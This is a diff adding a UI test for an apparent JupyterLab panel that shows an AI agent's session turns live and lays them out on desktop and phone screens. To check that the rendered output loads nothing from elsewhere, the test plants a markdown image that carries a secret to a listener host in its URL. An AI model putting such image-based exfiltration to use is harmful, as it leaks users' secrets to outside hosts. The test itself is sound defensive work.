@@ -9,6 +9,7 @@ own, whose archive follows quickly). Screenshots go to ``tests/artifacts/ui/``.
 
 from __future__ import annotations
 
+import json
 import signal
 import threading
 from collections.abc import Iterator
@@ -191,3 +192,92 @@ def test_a_resume_that_cannot_work_says_why_and_offers_a_fresh_session(lab: Lab,
     wait_text(page, rf"above: the end of session {agent['id']}")
     shot(page, "resume-failed-fresh")
     assert lab.sessions()[agent["id"]]["status"] == "interrupted"  # the old record stays
+
+
+SEEN_AT = """([sid, text]) => {
+  // when (Date.now(), the clock of the records' times) a row holding `text` first showed
+  window.__seen = undefined;
+  const view = document.querySelector(`.jp-AgentsTurns[data-session-id='${sid}']`);
+  new MutationObserver((_, observer) => {
+    if (view.textContent.includes(text)) { window.__seen = Date.now(); observer.disconnect(); }
+  }).observe(view, {subtree: true, childList: true, characterData: true});
+}"""
+
+
+def test_turns_show_live_folded_and_load_nothing_from_elsewhere(
+    lab: Lab, page: Any, listener: tuple[str, list[str]]
+) -> None:
+    """Issue 56: an agent's turns in a tab of their own: the prompt, the tool call folded
+    to one line (opened on click: its output), the answer rendered; what the agent does
+    next shows without a reload (the server's ``turns`` event), and what it wrote that
+    would load something from elsewhere shows as a link naming the host, no request made."""
+    host, got = listener
+    agent, source = talked(lab, "watch-me-live")
+    sid = agent["id"]
+    open_lab(page, lab, reset=True)
+    page.set_viewport_size({"width": 1400, "height": 900})
+    show_panel(page)
+    act(page, sid, "open")
+    test_ui.wait_current_terminal(page, agent["name"], "its terminal")
+    act(page, sid, "turns")  # from the row's menu: beside the terminal
+    view = page.locator(f".jp-AgentsTurns[data-session-id='{sid}']")
+    view.wait_for()
+    assert page.locator(".jp-Terminal").first.is_visible()  # both at once
+    beside = page.evaluate(
+        """() => { const t = document.querySelector('.jp-Terminal').getBoundingClientRect();
+        const v = document.querySelector('.jp-AgentsTurns').getBoundingClientRect();
+        return v.left >= t.right - 1; }"""
+    )
+    assert beside, "the turns are not to the right of the terminal"
+    answer = "claude heard: watch-me-live"
+    view.locator(".jp-AgentsTurns-row[data-type='agent_message']", has_text=answer).wait_for()
+    prompt = view.locator(".jp-AgentsTurns-row[data-type='user_message']").first
+    assert prompt.inner_text().splitlines()[-1] == "watch-me-live"
+    call = view.locator(".jp-AgentsTurns-row[data-type='tool_call'] details").first
+    assert "Bash: echo fake" in call.locator("summary").inner_text()
+    assert call.get_attribute("data-status") == "completed"
+    assert not call.locator(".jp-AgentsTurns-output").is_visible()  # folded
+    call.locator("summary").click()
+    assert call.locator(".jp-AgentsTurns-output").inner_text() == "fake"
+    assert "echo fake" in call.locator(".jp-AgentsTurns-input").inner_text()
+    shot(page, "turns-1400x900")
+
+    # the next turn, and a hostile record, with no reload
+    page.evaluate(SEEN_AT, [sid, "claude heard: and-live-too"])
+    lab.server.type_line(agent["name"], "and-live-too", "claude heard: and-live-too")
+    view.locator(".jp-AgentsTurns-row", has_text="claude heard: and-live-too").wait_for()
+    status, page_of = lab.server.request("GET", f"/api/agents/sessions/{sid}/turns")
+    assert status == 200
+    written = next(
+        e["at"] for e in page_of["events"] if e.get("text") == "claude heard: and-live-too"
+    )
+    seen = page.evaluate("() => window.__seen")
+    from datetime import datetime
+
+    lag = seen / 1000 - datetime.fromisoformat(written.replace("Z", "+00:00")).timestamp()
+    print(f"turns: on screen {lag * 1000:.0f} ms after the CLI wrote the record")
+    leak = f"![the chart](http://{host}/turns.png?d=SECRET-T)"
+    with source.open("a") as f:
+        f.write(json.dumps({"type": "assistant", "message": {"content": leak}}) + "\n")
+    shown = view.locator(".jp-AgentsTurns-row[data-type='agent_message']", has_text=host)
+    shown.wait_for()
+    assert "the chart" in shown.inner_text()
+    assert not got, got
+
+    # on a phone: the turns alone, a tool call opened, nothing wider than the screen
+    phone = page.context.new_page()
+    try:
+        phone.set_viewport_size({"width": 360, "height": 740})
+        open_lab(phone, lab, reset=True)
+        phone.evaluate(
+            "id => window.jupyterapp.commands.execute('jupyter-agents:turns', {id})", sid
+        )
+        small = phone.locator(f".jp-AgentsTurns[data-session-id='{sid}']")
+        small.locator(".jp-AgentsTurns-row", has_text="claude heard: and-live-too").wait_for()
+        small.locator(".jp-AgentsTurns-row[data-type='tool_call'] summary").last.click()
+        assert phone.evaluate("() => document.documentElement.scrollWidth") <= 360
+        box = small.bounding_box()
+        assert box and box["x"] >= 0 and box["x"] + box["width"] <= 360, box
+        shot(phone, "turns-360x740")
+    finally:
+        phone.close()
